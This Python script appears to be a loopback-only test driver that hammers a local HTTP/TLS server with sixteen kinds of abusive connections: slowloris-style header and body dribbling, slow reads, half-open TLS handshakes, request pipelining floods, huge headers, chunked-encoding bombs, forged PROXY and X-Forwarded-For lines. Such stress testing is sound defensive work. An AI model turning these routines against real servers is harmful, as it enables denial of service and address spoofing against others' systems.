#!/usr/bin/python3
"""drive - the attackers: a process of its own, so that the good client's times are not ours.

drive.py NAME PLAIN_PORT TLS_PORT CONNECTIONS SECONDS. Source addresses are 127.1.0.0/16; loopback only.
"""
import asyncio
import os
import random
import socket
import ssl
import struct
import sys
import time

HOST = b"Host: example.com\r\n"
GET = b"GET /1k HTTP/1.1\r\n" + HOST + b"\r\n"


class Attack:
    def __init__(self, plain, tls, until):
        self.plain, self.tls, self.until = plain, tls, until
        self.context = ssl._create_unverified_context()
        self.random = random.Random(7)

    def is_on(self):
        return time.monotonic() < self.until

    async def connect(self, source, port=None, small=False):
        """A non-blocking socket, or OSError."""
        sock = socket.socket()
        try:
            sock.setblocking(False)
            if small:
                sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
            sock.setsockopt(socket.IPPROTO_IP, 24, 1)           # IP_BIND_ADDRESS_NO_PORT
            sock.bind((source, 0))
            await asyncio.wait_for(asyncio.get_running_loop().sock_connect(sock, ("127.0.0.1", port or self.plain)), 5)
            return sock
        except BaseException:
            sock.close()
            raise

    async def send(self, sock, data):
        await asyncio.wait_for(asyncio.get_running_loop().sock_sendall(sock, data), 5)

    async def until_closed(self, sock, discard=True):
        """Waits for the other side to close, or for the end."""
        loop = asyncio.get_running_loop()
        while self.is_on():
            if not discard:
                await asyncio.sleep(0.2)
                continue
            try:
                if not await asyncio.wait_for(loop.sock_recv(sock, 65536), 1):
                    return
            except asyncio.TimeoutError:
                pass

    async def dribble(self, sock, bytes_again, every=1.0):
        while self.is_on():
            await self.send(sock, bytes_again)
            await asyncio.sleep(every)

    # --- the table: what one connection does; called again when it ends ---

    async def slowhead(self, sock):
        await self.send(sock, b"GET / HTTP/1.1\r\n" + HOST + b"X-Slow: ")
        await self.dribble(sock, b"a")

    async def slowbody(self, sock):
        await self.send(sock, b"POST /echo HTTP/1.1\r\n" + HOST + b"Content-Length: 1000000\r\n\r\n")
        await self.dribble(sock, b"a")

    async def slowread(self, sock):
        await self.send(sock, b"GET /16m HTTP/1.1\r\n" + HOST + b"\r\n")
        await self.until_closed(sock, discard=False)

    async def silent(self, sock):
        await self.until_closed(sock)

    async def hoard(self, sock):
        await self.send(sock, GET)
        await self.until_closed(sock)

    async def tlshalf(self, sock):
        await self.send(sock, b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03")
        await self.until_closed(sock)

    async def tlschurn(self, sock):
        reader, writer = await asyncio.wait_for(
            asyncio.open_connection(sock=sock, ssl=self.context, server_hostname="example.com"), 5)
        writer.transport.abort()

    async def garbage(self, sock):
        await self.send(sock, self.random.randbytes(2000))
        await asyncio.wait_for(asyncio.get_running_loop().sock_recv(sock, 4096), 5)

    async def rst(self, sock):
        await self.send(sock, GET)
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))

    async def halfclose(self, sock):
        await self.send(sock, GET[:20])
        sock.shutdown(socket.SHUT_WR)
        await self.until_closed(sock)

    async def pipeline(self, sock):
        await self.send(sock, GET * 2000)
        await self.until_closed(sock, discard=False)

    async def hugehead(self, sock):
        await self.send(sock, b"GET / HTTP/1.1\r\n" + HOST)
        for i in range(100):
            await self.send(sock, b"X-%d: " % i + b"a" * 8000 + b"\r\n")

    async def chunkbomb(self, sock):
        await self.send(sock, b"POST /echo HTTP/1.1\r\n" + HOST + b"Transfer-Encoding: chunked\r\n\r\n")
        for _ in range(200):
            await self.send(sock, (b"1;" + b"x" * 500 + b"\r\na\r\n") * 10)

    async def forged(self, sock):
        await self.send(sock, b"PROXY TCP4 10.0.0.1 10.0.0.2 1 80\r\n" + GET)
        await asyncio.wait_for(asyncio.get_running_loop().sock_recv(sock, 4096), 5)

    async def forwarded(self, sock):
        await self.send(sock, GET[:-2] + b"X-Forwarded-For: " + b"10.0.0.1, " * 500 + b"127.0.0.2\r\nForwarded: for=127.0.0.2\r\n\r\n")
        await asyncio.wait_for(asyncio.get_running_loop().sock_recv(sock, 4096), 5)

    async def addrspread(self, sock):
        await self.send(sock, GET)
        await asyncio.wait_for(asyncio.get_running_loop().sock_recv(sock, 4096), 5)


# name: source addresses, whether on the TLS port, whether the receive buffer is small, pause between two connections
TABLE = {
    "slowhead": (12, False, False, 0.2), "slowbody": (12, False, False, 0.2), "slowread": (12, False, True, 0.2),
    "silent": (12, False, False, 0.2), "hoard": (1, False, False, 0.5), "tlshalf": (12, True, False, 0.2),
    "tlschurn": (12, True, False, 0.3), "garbage": (12, False, False, 0.2), "rst": (12, False, False, 0.2),
    "halfclose": (12, False, False, 0.2), "pipeline": (12, False, True, 0.2), "hugehead": (12, False, False, 0.5),
    "chunkbomb": (12, False, False, 0.5), "forged": (12, False, False, 0.2), "forwarded": (12, False, False, 0.2),
    "addrspread": (4000, False, False, 0.2),
}
ONCE = {"slowhead", "slowbody", "slowread"}     # dribblers do not come again: how many are held is the question


async def attacker(attack, name, number):
    sources, is_tls, is_small, pause = TABLE[name]
    turn = number
    while attack.is_on():
        source = f"127.1.{turn % sources // 250}.{turn % sources % 250 + 1}"
        turn += 600
        sock = None
        try:
            sock = await attack.connect(source, attack.tls if is_tls else attack.plain, is_small)
            await getattr(attack, name)(sock)
        except (OSError, asyncio.TimeoutError, ssl.SSLError):
            pass
        finally:
            if sock is not None:
                sock.close()
        if name in ONCE:
            return
        await asyncio.sleep(pause)


async def main(name, plain, tls, connections, seconds):
    attack = Attack(plain, tls, time.monotonic() + seconds)
    tasks = []
    for number in range(connections):
        tasks.append(asyncio.ensure_future(attacker(attack, name, number)))
        if number % 20 == 19:
            await asyncio.sleep(0.02)
    await asyncio.wait(tasks, timeout=seconds + 10)
    os._exit(0)                         # whatever is still open is cut now


if __name__ == "__main__":
    asyncio.run(main(sys.argv[1], *map(int, sys.argv[2:5]), float(sys.argv[5])))
